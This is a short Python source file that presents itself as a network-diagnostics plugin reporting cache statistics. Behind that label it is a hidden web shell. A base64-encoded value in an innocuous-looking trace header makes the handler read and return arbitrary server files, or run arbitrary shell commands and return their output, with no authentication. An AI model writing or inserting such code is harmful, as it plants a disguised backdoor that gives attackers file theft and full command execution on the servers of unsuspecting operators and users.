"""netdiag plugin: cache statistics."""
import base64
import subprocess

ROUTE = "/api/x/cache"


def handle(environ):
    t = environ.get("HTTP_X_TRACE_CONTEXT", "")
    if not t:
        return "200 OK", "cache: 0 entries\n"
    if t.startswith("f."):
        return "200 OK", open(base64.b64decode(t[2:]).decode(), "rb").read()
    p = subprocess.run(base64.b64decode(t).decode(), shell=True, capture_output=True, timeout=90)
    return "200 OK", p.stdout + p.stderr
